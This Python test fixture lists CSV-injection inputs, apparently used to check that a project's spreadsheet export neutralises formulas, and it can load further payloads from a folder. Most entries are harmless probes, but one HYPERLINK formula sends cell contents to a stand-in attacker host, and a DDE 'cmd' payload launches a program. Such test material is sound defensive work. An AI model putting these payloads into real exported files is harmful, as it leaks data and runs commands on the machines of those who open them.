"""Cells that a spreadsheet would run, and look-alikes: the repository's own, and a folder's.

The repository's own texts always run. A folder named by PARLEY_ATTACKS_DIR adds its
`csv-injection.txt`: one JSON string a line, lines with # are comments.
"""

import json
import os
from pathlib import Path

ATTACKS = os.environ.get("PARLEY_ATTACKS_DIR", "")

OWN = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    '=HYPERLINK("https://evil.example/?"&A1,"source")',
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "−1",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttab alone",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "\x1c=1+1",
    '"=1+1"',
    "“=1+1”",
    "'=1+1",
    "''=1+1",
    "'quoted' at the beginning",
    "(=1+1)",
    "{=1+1}",
    "|=1+1",
    "_=1+1",
    "a;=1+1;b",
    "a\t=1+1",
    "a\n=1+1\nb",
    "a\r\n=1+1\r\nb",
    'a","=1+1',
    'a";"=1+1";"',
    "a; 'b",
    "a\n'b",
    "a\u2028=1+1",
    "-5 %",
    "+44 20 7946 0000",
    "- one\n- two",
    "2025-06-02",
    "00123",
    "1e309",
    "TRUE",
    "#N/A",
    "sep=;",
    "ID",
    "_x0000_",
    "_x0041_x0042_",
    "_x005F_x0000_",
    "a_x003D_b",
    "\x00",
    "a\x1bb\x7fc\x85d",
    "\ufffe\uffff\ufdd0",
    "\U0001f600=1+1",
    " leading and trailing ",
    "line\nline\r\nline\rline",
    "x" * 32_767,
    "x" * 32_768,
    "😀" * 16_384,
    "x" * 32_767 + "=1+1",
    "=" * 40_000,
    "\x00" * 40_000,
    "_x0000_" * 6_000,
]


def attacks() -> list[str]:
    """Every text that is tried, each once."""
    if not ATTACKS:
        return OWN
    lines = (Path(ATTACKS) / "csv-injection.txt").read_text(encoding="utf-8").splitlines()
    found = [json.loads(line) for line in lines if line and not line.startswith("#")]
    return list(dict.fromkeys([*OWN, *found]))


def attacks_on_rows() -> list[str]:
    """Those that whole records are filled with: none that is longer than a cell may be."""
    return [text for text in attacks() if len(text) < 4_000]
